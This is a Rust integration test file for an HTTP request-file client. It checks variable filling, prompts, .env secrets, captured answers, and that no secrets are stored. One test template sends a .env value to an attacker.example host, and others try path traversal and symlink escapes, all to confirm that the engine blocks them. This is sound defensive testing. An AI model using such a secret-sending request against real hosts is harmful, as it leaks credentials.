//! What a request's file gives to it: variables, prompts, files, other requests' answers, checks.

use crate::home::{World, files_below};
use mudbrick_engine::view::{
    ExchangeView, ProfileDraft, RequestNoteKind, RequestOrigin, RequestSource, VariableSource,
};
use mudbrick_engine::{
    Confirmation, JobKind, LockCause, OutsideFiles, RequestAddress, Secret, Sending,
};
use mudbrick_model::{ErrorCode, Problem, ProfileId, Request, Risk};
use std::fs;
use std::io::Write as _;
use std::path::PathBuf;

const HEADERS: &str = "Authorization: Bearer {{ACCESS_TOKEN}}\nx-api-key: {{API_KEY}}\nx-gw-ims-org-id: {{IMS_ORG}}\n";
const LIBRARIES: &str = "https://api-places.adobe.io/places/placesapi/v1/libraries";
const SERVED: &str = "/places/placesapi/v1/libraries";

/// A home with a profile and a file of requests.
pub(crate) struct Files {
    pub(crate) world: World,
    pub(crate) id: ProfileId,
}

impl Files {
    pub(crate) async fn with(text: &str) -> Self {
        Self::with_risk(text, Risk::Development).await
    }

    async fn with_risk(text: &str, risk: Risk) -> Self {
        let world = World::start().await;
        let id = world.profile_with("Places", |draft| draft.risk = risk).summary.id;
        let files = Self { world, id };
        files.write("mine.http", text.replace("HEADERS\n", HEADERS).as_bytes());
        files
    }

    fn folder(&self) -> PathBuf {
        self.world.folder.path().join("requests")
    }

    pub(crate) fn write(&self, name: &str, bytes: &[u8]) {
        let place = self.folder().join(name);
        fs::create_dir_all(place.parent().unwrap()).unwrap();
        fs::File::create(place).unwrap().write_all(bytes).unwrap();
    }

    pub(crate) fn sending(&self, name: &str, variables: &[(&str, &str)]) -> Sending {
        let requests = self.world.engine.requests();
        let (request, surroundings) =
            requests.find_with_surroundings(&format!("mine#{name}")).unwrap();
        let variables = variables.iter().map(|(name, value)| (name.to_string(), value.to_string()));
        Sending { surroundings, variables: variables.collect(), ..Sending::of(request) }
    }

    pub(crate) async fn send_as(
        &self,
        sending: Sending,
        confirmation: Confirmation,
    ) -> Result<ExchangeView, Problem> {
        let job = self.world.engine.jobs().start(JobKind::Send);
        self.world.engine.requests().send_in_file(&job, &self.id, sending, confirmation).await
    }

    pub(crate) async fn send(&self, name: &str) -> Result<ExchangeView, Problem> {
        self.send_as(self.sending(name, &[]), Confirmation::NotGiven).await
    }

    pub(crate) fn count(&self, path: &str) -> usize {
        self.world.control().count(path)
    }

    fn is_on_disk(&self, text: &str) -> bool {
        let kept = files_below(self.world.folder.path());
        let mut kept = kept.iter().filter(|(path, _)| !path.contains("/requests/"));
        kept.any(|(_, bytes)| bytes.windows(text.len()).any(|part| part == text.as_bytes()))
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn variables_of_the_file_are_filled_and_a_ring_is_named() {
    let files = Files::with(&format!(
        "@HOST = https://api-places.adobe.io\n@BASE = {{{{HOST}}}}/places\n@ID = {{{{$guid}}}}\n@A = {{{{B}}}}\n@B = {{{{A}}}}\n\n\
         ### List\nGET {{{{BASE}}}}/placesapi/v1/libraries\nx-one: {{{{ID}}}}\nx-two: {{{{ID}}}}\nHEADERS\n\n\
         ### Ring\nGET {LIBRARIES}?a={{{{A}}}}\nHEADERS\n"
    ))
    .await;
    let sent = files.send("List").await.unwrap();
    assert_eq!(sent.summary.status, Some(200), "{sent:?}");
    let value = |name| sent.sent_headers.iter().find(|header| header.name == name).unwrap();
    assert_eq!(value("x-one").value, value("x-two").value);
    assert_eq!(value("x-one").value.len(), 36);
    let problem = files.send("Ring").await.unwrap_err();
    assert!(problem.message.contains("{{A}} stands for {{B}} stands for {{A}}"), "{problem:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_dotenv_gives_is_a_secret() {
    let files = Files::with(&format!(
        "### Send\nGET {LIBRARIES}?key={{{{$dotenv KEY}}}}\nHEADERS\n\n### Elsewhere\nGET https://attacker.example/?key={{{{$dotenv KEY}}}}\n"
    ))
    .await;
    let problem = files.send("Send").await.unwrap_err();
    assert!(problem.message.contains("no .env beside"), "{problem:?}");
    files.write(".env", b"KEY=canary-of-the-day\n");
    let sent = files.send("Send").await.unwrap();
    assert!(!format!("{sent:?}").contains("canary"), "{sent:?}");
    assert!(sent.summary.url.contains("key="), "{sent:?}");
    assert!(!files.is_on_disk("canary-of-the-day"));
    let problem = files.send("Elsewhere").await.unwrap_err();
    assert_eq!(problem.code, ErrorCode::HostNotAllowed, "{problem:?}");
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn a_dotenv_that_leads_elsewhere_is_none() {
    let files =
        Files::with(&format!("### Send\nGET {LIBRARIES}?key={{{{$dotenv KEY}}}}\nHEADERS\n")).await;
    let elsewhere = files.world.folder.path().join("elsewhere");
    fs::File::create(&elsewhere).unwrap().write_all(b"KEY=canary\n").unwrap();
    std::os::unix::fs::symlink(&elsewhere, files.folder().join(".env")).unwrap();
    let problem = files.send("Send").await.unwrap_err();
    assert!(problem.message.contains("no .env beside"), "{problem:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_prompt_is_answered_or_nothing_is_sent() {
    let files = Files::with(&format!(
        "### Make\n# @prompt NAME The library's name\n# @prompt PASSWORD\nPOST {LIBRARIES}\nHEADERS\nContent-Type: application/json\n\n\
         {{\"name\": \"{{{{NAME}}}} {{{{PASSWORD}}}}\"}}\n"
    ))
    .await;
    let opened = files
        .world
        .engine
        .requests()
        .open(RequestAddress::parse("mine#Make").unwrap(), RequestOrigin::Own);
    let prompts = opened.unwrap().prompts;
    assert_eq!((prompts[0].name.as_str(), prompts[0].is_secret), ("NAME", false));
    assert_eq!(prompts[0].description.as_deref(), Some("The library's name"));
    assert!(prompts[1].is_secret);
    let problem = files.send("Make").await.unwrap_err();
    assert!(problem.message.contains("NAME (The library's name)"), "{problem:?}");
    assert!(problem.remedy_text().unwrap().contains("--var NAME="), "{problem:?}");
    assert_eq!(files.count(SERVED), 0);
    let answered = [("NAME", "Quay"), ("PASSWORD", "canary-password")];
    let sending = files.sending("Make", &answered);
    let sent = files.send_as(sending, Confirmation::NotGiven).await.unwrap();
    assert!(matches!(sent.summary.status, Some(200 | 201)), "{sent:?}");
    assert!(sent.sent_body.unwrap().contains("Quay"));
    assert!(!files.is_on_disk("canary-password"));
}

#[tokio::test(flavor = "multi_thread")]
async fn nobody_is_asked_for_what_the_profile_knows() {
    let files = Files::with(&format!(
        "### List\n# @prompt LIMIT How many?\n# @prompt API_KEY\nGET {LIBRARIES}?limit={{{{LIMIT}}}}\nHEADERS\n"
    ))
    .await;
    let requests = files.world.engine.requests();
    let asked = requests.prompts(&files.id, &files.sending("List", &[])).unwrap();
    assert_eq!(asked.iter().map(|it| it.name.as_str()).collect::<Vec<_>>(), ["LIMIT"]);
    let set = |draft: &mut ProfileDraft| {
        draft.name = "Other".to_owned();
        draft.variables.insert("LIMIT".to_owned(), "1".to_owned());
    };
    let id = files.world.profile_with("Places", set).summary.id;
    assert_eq!(requests.prompts(&id, &files.sending("List", &[])).unwrap(), []);
    let sent = Files { id, ..files }.send("List").await.unwrap();
    assert!(sent.summary.url.ends_with("?limit=1"), "{}", sent.summary.url);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_only_a_variable_of_the_profile_names_is_asked_for() {
    let files = Files::with(&format!(
        "### List\n# @prompt PLACE\n# @prompt GONE\n\
         GET {LIBRARIES}/{{{{WHERE}}}}\nHEADERS\n"
    ))
    .await;
    let set = |draft: &mut ProfileDraft| {
        draft.name = "Other".to_owned();
        draft.variables.insert("WHERE".to_owned(), "at-{{PLACE}}".to_owned());
    };
    let id = files.world.profile_with("Places", set).summary.id;
    let asked = files.world.engine.requests().prompts(&id, &files.sending("List", &[])).unwrap();
    assert_eq!(asked.iter().map(|it| it.name.as_str()).collect::<Vec<_>>(), ["PLACE"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_body_may_be_a_file_beside_the_request_and_no_other() {
    let post = |name: &str, line: &str| {
        format!(
            "### {name}\nPOST {LIBRARIES}\nHEADERS\nContent-Type: application/json\n\n{line}\n\n"
        )
    };
    let files = Files::with(
        &[
            post("As it is", "< ./bodies/plain.json"),
            post("Filled", "<@ bodies/filled.json"),
            post("Above", "< ../above.json"),
            post("Linked", "< ./linked.json"),
            post("Gone", "< ./gone.json"),
        ]
        .concat(),
    )
    .await;
    files.write("bodies/plain.json", br#"{"name": "{{API_KEY}}"}"#);
    files.write("bodies/filled.json", br#"{"name": "{{API_KEY}}"}"#);
    files.write("../above.json", br#"{"name": "above"}"#);
    #[cfg(unix)]
    std::os::unix::fs::symlink(
        files.folder().join("../above.json"),
        files.folder().join("linked.json"),
    )
    .unwrap();
    let (request, requests) =
        (files.sending("As it is", &[]).request, files.world.engine.requests());
    let alone = requests.check(&files.id, &Sending::of(request.clone())).unwrap();
    assert!(alone.warnings.iter().any(|said| said.contains("< ./bodies/plain.json")), "{alone:?}");
    let plain = files.send("As it is").await.unwrap();
    assert_eq!(plain.sent_body.as_deref(), Some(r#"{"name": "{{API_KEY}}"}"#));
    let filled = files.send("Filled").await.unwrap();
    assert!(!filled.sent_body.unwrap().contains("{{"));
    let before = files.count(SERVED);
    // What is elsewhere is asked about; what is nowhere is not.
    let (outside, nowhere) = (ErrorCode::FileOutside, ErrorCode::InvalidInput);
    for (name, code) in [("Above", outside), ("Linked", outside), ("Gone", nowhere)] {
        let problem = files.send(name).await.unwrap_err();
        assert_eq!(problem.code, code, "{name}: {problem:?}");
    }
    assert_eq!(files.count(SERVED), before);
    let sending = Sending { outside: OutsideFiles::Allowed, ..files.sending("Above", &[]) };
    let sent = files.send_as(sending, Confirmation::NotGiven).await.unwrap();
    assert_eq!(sent.sent_body.as_deref(), Some(r#"{"name": "above"}"#));
}

#[tokio::test(flavor = "multi_thread")]
async fn answers_are_checked_and_give_values_to_other_requests() {
    let files = Files::with(&format!(
        "### List\n# @name list\n# @check status 200\n# @check header content-type contains json\n# @check body $[0].id exists\n\
         # @check body $[0].id == nothing\n# @check time < 1 ms\n# @capture FIRST = body $[0].id\nGET {LIBRARIES}\nHEADERS\n\n\
         ### One\nGET {LIBRARIES}/{{{{list.response.body.$[0].id}}}}?again={{{{FIRST}}}}\nHEADERS\n"
    ))
    .await;
    // It was not sent yet, and is sent first.
    let one = files.send("One").await.unwrap();
    assert_eq!(files.count(SERVED), 2);
    let list = files.send("List").await.unwrap();
    let passed: Vec<bool> = list.checks.iter().map(|check| check.passed).collect();
    assert_eq!(passed[..4], [true, true, true, false], "{:?}", list.checks);
    let first = list.captured[0].value.clone().unwrap();
    assert_eq!(list.checks[3].found.as_deref(), Some(first.as_str()));
    assert!(one.summary.url.ends_with(&format!("/{first}?again={first}")), "{}", one.summary.url);
    // Its answer is there now.
    files.send("One").await.unwrap();
    assert_eq!(files.count(SERVED), 4);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_in_the_history_is_enough() {
    let files = Files::with(&format!(
        "### List\n# @name list\nGET {LIBRARIES}\nHEADERS\n\n### One\nGET {LIBRARIES}/{{{{list.response.body.$[0].id}}}}\nHEADERS\n"
    ))
    .await;
    files.send("List").await.unwrap();
    // What is in memory goes with the key; the history stays.
    files.world.engine.vault().lock(LockCause::Person);
    files.world.engine.vault().unlock(Some(Secret::new("correct horse".to_owned()))).unwrap();
    files.send("One").await.unwrap();
    assert_eq!(files.count(SERVED), 2, "the list is not asked for again");
}

const LOGIN: &str = "### Login\n# @name login\n# @capture TOKEN_OF_LOGIN = body $.access_token\nPOST https://ims-na1.adobelogin.com/ims/token/v3\nContent-Type: application/x-www-form-urlencoded\n\n\
    grant_type=client_credentials\n&client_id={{API_KEY}}\n&client_secret={{SECRET}}\n&scope=openid,AdobeID\n\n";

#[tokio::test(flavor = "multi_thread")]
async fn a_writing_request_is_not_sent_first_unasked_and_its_token_stays_a_secret() {
    let files = Files::with(&format!(
        "{LOGIN}### List\nGET {LIBRARIES}\nAuthorization: Bearer {{{{login.response.body.$.access_token}}}}\nx-api-key: {{{{API_KEY}}}}\n\
         x-gw-ims-org-id: {{{{IMS_ORG}}}}\n"
    ))
    .await;
    let secret = files.world.project("Places").client_secret;
    let sending = || files.sending("List", &[("SECRET", &secret)]);
    let requests = files.world.engine.requests();
    let (before, _) = requests.before_sending(&files.id, &sending()).unwrap();
    assert!(before.reasons_to_ask[0].contains("Login is sent first"), "{before:?}");
    let problem = files.send_as(sending(), Confirmation::NotGiven).await.unwrap_err();
    assert_eq!(problem.code, ErrorCode::NeedsConfirmation, "{problem:?}");
    assert_eq!((files.count(SERVED), files.count("/ims/token/v3")), (0, 0));
    let sent = files.send_as(sending(), Confirmation::Given).await.unwrap();
    assert_eq!(sent.summary.status, Some(200), "{sent:?}");
    assert!(!format!("{sent:?}").contains("eyJ"), "{sent:?}");
    let login = files.send_as(files.sending("Login", &[("SECRET", &secret)]), Confirmation::Given);
    let login = login.await.unwrap();
    let captured = &login.captured[0];
    assert!(captured.is_secret && captured.value.is_none(), "{captured:?}");
    assert!(!files.is_on_disk("eyJ"), "no token is kept");
}

#[tokio::test(flavor = "multi_thread")]
async fn requests_that_need_each_other_are_named() {
    let files = Files::with(&format!(
        "### A\n# @name a\nGET {LIBRARIES}?x={{{{b.response.headers.x}}}}\nHEADERS\n\n### B\n# @name b\nGET {LIBRARIES}?x={{{{a.response.headers.x}}}}\nHEADERS\n"
    ))
    .await;
    let problem = files.send("A").await.unwrap_err();
    assert!(
        problem.message.contains("A needs the answer of B needs the answer of A"),
        "{problem:?}"
    );
    assert_eq!(files.count(SERVED), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_not_done_is_noted_and_no_log_leaves_no_trace() {
    let files = Files::with(&format!(
        "# @timeout 5\n\n### Send\n# @no-log\n# @loop 3\nGET {LIBRARIES}\nHEADERS\n\n> {{%\nclient.log('x');\n%}}\n\n### Other\nGRPC x.io/a\n"
    ))
    .await;
    let opened = files
        .world
        .engine
        .requests()
        .open(RequestAddress::parse("mine#Send").unwrap(), RequestOrigin::Own);
    let notes = opened.unwrap().notes;
    let kinds: Vec<_> = notes.iter().map(|note| note.kind).collect();
    let expected = [
        RequestNoteKind::Directive,
        RequestNoteKind::Script,
        RequestNoteKind::Foreign,
        RequestNoteKind::Directive,
    ];
    assert_eq!(kinds, expected, "{notes:?}");
    assert_eq!(notes[0].text, "@loop is not supported and has no effect.");
    assert_eq!(
        notes[3].text,
        "@timeout 5 has no effect here: write it below the ### of a request."
    );
    let sent = files.send("Send").await.unwrap();
    assert_eq!(sent.summary.status, Some(200));
    assert!(files.world.engine.history().list(None, "", None, 10).unwrap().is_empty());
}

/// What the window has of a request: as it was opened, with where that was.
fn opened(files: &Files, address: &str) -> (Request, RequestSource) {
    let address = RequestAddress::parse(address).unwrap();
    let request =
        files.world.engine.requests().open(&address, RequestOrigin::Own).unwrap().request.request;
    (request, RequestSource { address, origin: RequestOrigin::Own })
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_that_was_opened_from_a_file_knows_what_the_file_gives() {
    let files = Files::with(&format!(
        "@BASE = {LIBRARIES}\n\n### List\n# @prompt ID Which one\n# @prompt DOOR_PASSWORD\n# @capture FIRST = body $[0].id\n# @loop for 3\n\
         GET {{{{BASE}}}}/{{{{ID}}}}?first={{{{FIRST}}}}&unset={{{{NOWHERE}}}}/x\nx-door: {{{{DOOR_PASSWORD}}}}\nHEADERS\n"
    ))
    .await;
    let requests = files.world.engine.requests();
    let (request, source) = opened(&files, "mine#List");
    let edited = Request { url: request.url.replace("?first", "?edited=1&first"), ..request };
    let check =
        requests.check(&files.id, &requests.sending(edited.clone(), Some(&source), None)).unwrap();
    assert_eq!(check.missing, ["NOWHERE"]);
    assert!(check.url.starts_with(&format!("{LIBRARIES}/{{{{ID}}}}?edited=1")), "{}", check.url);
    assert_eq!(check.notes.len(), 1, "{:?}", check.notes);
    let values = |name: &str| {
        let found = check.variables.iter().find(|variable| variable.name == name);
        found.map(|found| found.values.clone()).unwrap_or_default()
    };
    let base = &values("BASE")[0];
    assert_eq!((base.source, base.file.as_deref()), (VariableSource::File, Some("mine.http")));
    assert_eq!(values("ID")[0].source, VariableSource::Prompt);
    assert_eq!(values("FIRST")[0].source, VariableSource::Answer);
    assert_eq!(values("API_KEY")[0].file, None);
    assert!(values("NOWHERE").is_empty());
    let asked = |request: &Request| {
        let sending = requests.sending(request.clone(), Some(&source), None);
        let prompts = requests.prompts(&files.id, &sending).unwrap();
        prompts.into_iter().map(|prompt| prompt.name).collect::<Vec<_>>()
    };
    assert_eq!(asked(&edited), ["ID", "DOOR_PASSWORD"]);
    // Nobody is asked for what was taken out.
    let shorter = Request { url: edited.url.replace("{{ID}}", "1"), ..edited.clone() };
    assert_eq!(asked(&shorter), ["DOOR_PASSWORD"]);
    // Alone, it has none of it.
    let alone = requests.check(&files.id, &requests.sending(edited, None, None)).unwrap();
    assert_eq!(alone.missing, ["BASE", "ID", "NOWHERE"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_requests_ask_for_that_are_sent_first_is_asked_too() {
    let files = Files::with(&format!(
        "### First\n# @name first\n# @prompt PAGE\nGET {LIBRARIES}?page={{{{PAGE}}}}\nHEADERS\n\n\
         ### One\n# @prompt AGAIN\nGET {LIBRARIES}/{{{{first.response.body.$[0].id}}}}?again={{{{AGAIN}}}}\nHEADERS\n"
    ))
    .await;
    let requests = files.world.engine.requests();
    let (request, source) = opened(&files, "mine#One");
    let asked = |answers: Option<&str>| {
        let answers = answers.map(|text| serde_json::from_str(text).unwrap());
        let prompts = requests
            .prompts(&files.id, &requests.sending(request.clone(), Some(&source), answers))
            .unwrap();
        prompts.into_iter().map(|prompt| prompt.name).collect::<Vec<_>>()
    };
    assert_eq!(asked(None), ["AGAIN", "PAGE"]);
    assert_eq!(asked(Some(r#"{"AGAIN": "1"}"#)), ["PAGE"]);
    let answers = serde_json::from_str(r#"{"AGAIN": "1", "PAGE": "2"}"#).unwrap();
    let sending = requests.sending(request.clone(), Some(&source), Some(answers));
    let sent = files.send_as(sending, Confirmation::NotGiven).await.unwrap();
    assert_eq!(sent.summary.status, Some(200), "{sent:?}");
    // The first has its answer now, and is not sent again.
    assert_eq!(asked(None), ["AGAIN"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_draft_goes_out_as_it_is_when_its_request_or_its_file_has_gone() {
    let list = "GET {{BASE}}\nHEADERS\n";
    let files =
        Files::with(&format!("@BASE = {LIBRARIES}\n\n### List\n# @prompt ID\n{list}")).await;
    let (request, source) = opened(&files, "mine#List");
    let sending = || files.world.engine.requests().sending(request.clone(), Some(&source), None);
    let other = format!("@BASE = {LIBRARIES}\n\n### Other\n{list}\n### Another\n{list}");
    files.write("mine.http", other.replace("HEADERS\n", HEADERS).as_bytes());
    let check = files.world.engine.requests().check(&files.id, &sending()).unwrap();
    assert!(check.warnings[0].contains("is not in mine.http any more"), "{check:?}");
    let sent = files.send_as(sending(), Confirmation::NotGiven).await.unwrap();
    assert_eq!(sent.summary.status, Some(200), "{sent:?}");
    fs::remove_file(files.folder().join("mine.http")).unwrap();
    let check = files.world.engine.requests().check(&files.id, &sending()).unwrap();
    assert!(check.warnings[0].starts_with("There is no mine.http any more"), "{check:?}");
    assert_eq!(check.missing, ["BASE"]);
    let problem = files.send_as(sending(), Confirmation::NotGiven).await.unwrap_err();
    assert_eq!(problem.code, ErrorCode::InvalidInput, "{problem:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_for_other_programs_alone_is_listed_with_what_it_holds() {
    let files = Files::with("### A\nGRAPHQL https://x.io/\n\nquery { a }\n").await;
    files.write("heading.http", b"@a = b\n");
    let requests = files.world.engine.requests();
    let [damaged] = &requests.damaged().unwrap()[..] else { panic!("more than one") };
    let found = requests.find("mine").unwrap_err();
    for problem in [&damaged.problem, &found] {
        assert!(problem.message.contains("GRAPHQL https://x.io/"), "{problem:?}");
    }
}
